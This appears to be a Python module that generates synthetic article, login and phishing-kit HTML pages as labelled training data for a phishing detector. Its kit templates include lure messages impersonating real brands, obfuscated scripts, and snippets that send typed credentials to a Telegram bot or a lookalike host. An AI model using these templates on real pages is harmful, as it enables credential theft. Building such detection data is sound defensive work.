"""HTML pages: brands and sites, article and login pages (real sites' and phishing kits'), and the row maker.

The group of a page is its page family: the site for articles, the brand for login pages (real or fake).
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from smallsec_ray.data.demo.fill import WORDS, fill
from smallsec_ray.data.schema import GROUP, LABEL, SOURCE


@dataclass(frozen=True)
class Brand:
    key: str
    name: str
    domain: str


BRANDS = tuple(Brand(*b) for b in (
    ("paypal", "PayPal", "paypal.com"), ("microsoft", "Microsoft", "login.microsoftonline.com"),
    ("outlook", "Outlook", "outlook.live.com"), ("apple", "Apple", "appleid.apple.com"),
    ("netflix", "Netflix", "netflix.com"), ("amazon", "Amazon", "amazon.com"), ("chase", "Chase", "chase.com"),
    ("wellsfargo", "Wells Fargo", "wellsfargo.com"), ("dhl", "DHL", "dhl.com"),
    ("docusign", "DocuSign", "docusign.net"), ("dropbox", "Dropbox", "dropbox.com"),
    ("linkedin", "LinkedIn", "linkedin.com"), ("instagram", "Instagram", "instagram.com"),
    ("facebook", "Facebook", "facebook.com"), ("adobe", "Adobe", "adobe.com"),
    ("coinbase", "Coinbase", "coinbase.com"), ("usps", "USPS", "usps.com"), ("github", "GitHub", "github.com"),
))
ORDINARY_SITES = tuple(Brand(*b) for b in (
    ("woodgrove-bank", "Woodgrove Bank", "woodgrovebank.com"),
    ("contoso-intranet", "Contoso Intranet", "intranet.contoso.com"),
    ("tailspin-airlines", "Tailspin Airlines", "tailspintoys.com"),
    ("northwind-shop", "Northwind Traders", "northwindtraders.com"),
    ("fabrikam-hr", "Fabrikam HR Portal", "hr.fabrikam.com"), ("litware-mail", "Litware Mail", "mail.litwareinc.com"),
))
NEWS_SITES = tuple(Brand(*b) for b in (
    ("northwind-herald", "Northwind Herald", "northwindherald.com"),
    ("daily-byte", "The Daily Byte", "dailybyte.net"),
    ("contoso-blog", "Contoso Engineering Blog", "blog.contoso.com"),
    ("tailspin-travel", "Tailspin Travel Notes", "tailspintravel.com"),
    ("woodgrove-weekly", "Woodgrove Finance Weekly", "woodgroveweekly.com"),
    ("litware-science", "Litware Science", "litwarescience.org"),
    ("proseware-health", "Proseware Health", "prosewarehealth.com"),
    ("fourth-coffee", "Fourth Coffee Kitchen", "fourthcoffee.com"),
    ("adatum-security", "Adatum Security Blog", "adatum.com"),
    ("wingtip-sports", "Wingtip Sports", "wingtipsports.com"),
    ("lucerne-books", "Lucerne Publishing", "lucernepublishing.com"),
    ("margies-travel", "Margie's Travel", "margiestravel.com"),
))

SENTENCE_PARTS = {
    "subject": ("The city council", "A new study", "Our team", "The research group", "Local farmers", "The company",
                "Engineers at the plant", "The committee", "Volunteers", "The museum", "Analysts", "The school board"),
    "verb": ("announced", "reviewed", "published", "delayed", "expanded", "questioned", "celebrated", "tested",
             "measured", "proposed", "rejected", "described"),
    "object": ("a plan to renovate the old harbour", "the results of a two-year trial", "changes to the bus network",
               "a faster way to index large archives", "the budget for next spring", "a record harvest",
               "new guidelines for remote work", "the migration of its servers", "an exhibition on early maps",
               "a proposal for longer opening hours", "the impact of the heat wave", "its first open-source release"),
    "tail": ("on Tuesday", "after months of debate", "despite the rain", "according to officials",
             "in a statement", "earlier this year", "with mixed reactions", "for the first time"),
}
URGENT_LINES = (
    "Your account has been temporarily limited. Confirm your information to restore access.",
    "We detected an unusual sign-in attempt. Verify your identity to continue.",
    "Your mailbox is almost full. Sign in to upgrade your storage now.",
    "You have received a secure document. Sign in with your email to view it.",
    "Your payment could not be processed. Update your billing details within 24 hours.",
    "Your parcel is on hold due to an unpaid shipping fee.",
)
# Real sites say similar things on their own verification pages.
BENIGN_NOTICES = (
    "For your security, we sent a verification code to your phone.",
    "Signing in from a new device? We will ask for a code.",
    "Session expired. Please sign in again.", "We have updated our privacy policy.",
)


def _sentence(rng: random.Random) -> str:
    return " ".join(rng.choice(SENTENCE_PARTS[p]) for p in ("subject", "verb", "object", "tail")) + "."


def _page(rng: random.Random, title: str, head: str, body: str) -> str:
    lang = rng.choice(("en", "en", "en-US", "en-GB"))
    return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">{head}</head>'
            f"<body>{body}</body></html>")


def _footer(rng: random.Random, name: str, real_links: bool) -> str:
    href = (lambda path: path) if real_links else (lambda path: "#")
    links = "".join(f'<a href="{href("/" + p.lower())}">{p}</a> ' for p in ("Privacy", "Terms", "Help", "Cookies"))
    return f"<footer>{links}<span>&copy; {rng.randint(2019, 2025)} {name}</span></footer>"


@dataclass(frozen=True)
class LoginStyle:
    """How likely each trait of a login page is. Kits clone real pages, so the traits overlap."""

    actions: tuple[str, ...]
    csrf: float
    forgot: tuple[str | None, ...]  # href of the "Forgot password?" link (None: no link)
    hotlinked_assets: float  # assets loaded from the brand's real domain
    notices: tuple[str, ...]
    notice: float
    real_footer_links: float
    signup: float
    card_fields: float
    prefilled_email: float
    scripts: tuple[str, ...]


SITE_STYLE = LoginStyle(
    actions=("/session", "/login", "https://{domain}/login", "https://auth.{domain}/authorize",
             "/oauth2/v2.0/authorize", "login.php"),
    csrf=0.8, forgot=("/password/reset",) * 8 + ("#", None), hotlinked_assets=0.3, notices=BENIGN_NOTICES,
    notice=0.25, real_footer_links=0.9, signup=0.8, card_fields=0.0, prefilled_email=0.05,
    scripts=('<script src="/assets/app.{hex8}.js" defer></script>',) * 4 + ("",))
KIT_STYLE = LoginStyle(
    actions=("next.php", "login.php", "post.php", "https://{lookalike}/gate.php", "mailer/send.php",
             "https://{domain}.{rand}.{bad_tld}/auth", "", "/login"),
    csrf=0.35, forgot=("#", "#", "/password/reset", None), hotlinked_assets=0.5, notices=URGENT_LINES + BENIGN_NOTICES,
    notice=0.55, real_footer_links=0.4, signup=0.4, card_fields=0.15, prefilled_email=0.3,
    scripts=("", '<script src="/assets/app.{hex8}.js" defer></script>',
             "<script>var _0x{hex8}=atob('{b64_key}');</script>",
             "<script>document.write(unescape('%3C%64%69%76%3E{hex8}'));</script>",
             "<script>fetch('https://api.telegram.org/bot{tg_token}/sendMessage?chat_id={n8}&text='"
             "+encodeURIComponent(document.getElementById('email').value));</script>",
             "<script>$.post('https://{lookalike}/{rand}.php', $('#login-form').serialize());</script>"))


def _login_page(rng: random.Random, site: Brand, style: LoginStyle) -> str:
    def chance(p: float) -> bool:
        return rng.random() < p

    asset_host = f"https://{site.domain}" if chance(style.hotlinked_assets) else ""
    fields = ""
    if chance(style.card_fields):
        fields = ('<input type="text" name="cc" placeholder="Card number"><input type="text" name="exp" '
                  'placeholder="MM/YY"><input type="text" name="cvv" placeholder="CVV">')
    email_value = fill(' value="{user}@{tenant}.com"', rng) if chance(style.prefilled_email) else ""
    csrf = fill('<input type="hidden" name="csrf_token" value="{hex32}">', rng) if chance(style.csrf) else ""
    forgot = rng.choice(style.forgot)
    action = fill(rng.choice(style.actions).replace("{domain}", site.domain), rng)
    form = (f'<form method="post" action="{action}" '
            f'id="login-form">{csrf}<label for="email">Email or phone</label><input type="email" id="email" '
            f'name="email"{email_value} autocomplete="username" required><label for="password">Password</label>'
            '<input type="password" id="password" name="password" autocomplete="current-password" required>'
            + fields
            + ('<label><input type="checkbox" name="remember"> Keep me signed in</label>' if chance(0.5) else "")
            + '<button type="submit">Sign in</button></form>'
            + (f'<p><a href="{forgot}">Forgot password?</a></p>' if forgot is not None else ""))
    notice = f'<p class="notice">{rng.choice(style.notices)}</p>' if chance(style.notice) else ""
    signup = f'<p>New to {site.name}? <a href="/signup">Create an account</a></p>' if chance(style.signup) else ""
    head = f'<link rel="stylesheet" href="{asset_host}/assets/app.{fill("{hex8}", rng)}.css">'
    body = (f'<header><img src="{asset_host}/assets/logo.svg" alt="{site.name}"></header><main><h1>Sign in</h1>'
            f"{notice}{form}{signup}</main>{_footer(rng, site.name, real_links=chance(style.real_footer_links))}"
            f"{fill(rng.choice(style.scripts), rng)}")
    title = rng.choice((f"Sign in to {site.name}", f"{site.name} - Sign In", f"Log in | {site.name}",
                        f"{site.name} | Account Verification", "Sign in to your account"))
    return _page(rng, title, head, body)


def _article_page(rng: random.Random, site: Brand) -> str:
    headline = _sentence(rng).rstrip(".")
    paragraphs = "".join(f"<p>{' '.join(_sentence(rng) for _ in range(rng.randint(2, 4)))}</p>"
                         for _ in range(rng.randint(3, 7)))
    nav = "".join(f'<a href="/{s}">{s.title()}</a>' for s in rng.sample(WORDS["section"], 4))
    newsletter = ('<form action="/newsletter" method="post"><input type="email" name="email" placeholder="Your email">'
                  "<button>Subscribe</button></form>") if rng.random() < 0.4 else ""
    body = (f'<header><a href="/" class="logo">{site.name}</a><nav>{nav}</nav></header><main><article>'
            f"<h1>{headline}</h1><p class=\"byline\">By {rng.choice(WORDS['user']).title()} &middot; "
            f"{fill('{year}-{mm}-{dd}', rng)}</p>{paragraphs}</article>{newsletter}</main>"
            f"{_footer(rng, site.name, real_links=True)}")
    head = f'<link rel="stylesheet" href="/static/css/site.{fill("{hex8}", rng)}.css">'
    return _page(rng, f"{headline} | {site.name}", head, body)


def row(rng: random.Random, label: str) -> dict[str, str]:
    """A random HTML page of the given label, as a row with its site or brand as group."""
    if label == "phishing":
        brand = rng.choice(BRANDS)
        return {"text": _login_page(rng, brand, KIT_STYLE), LABEL: label, GROUP: brand.key,
                SOURCE: "mail-gateway" if rng.random() < 0.7 else "web-crawler"}
    if rng.random() < 0.55:
        site = rng.choice(NEWS_SITES)
        page = _article_page(rng, site)
    else:
        site = rng.choice(BRANDS + ORDINARY_SITES)
        page = _login_page(rng, site, SITE_STYLE)
    source = "mail-gateway" if rng.random() < 0.2 else "web-crawler"
    return {"text": page, LABEL: label, GROUP: site.key, SOURCE: source}
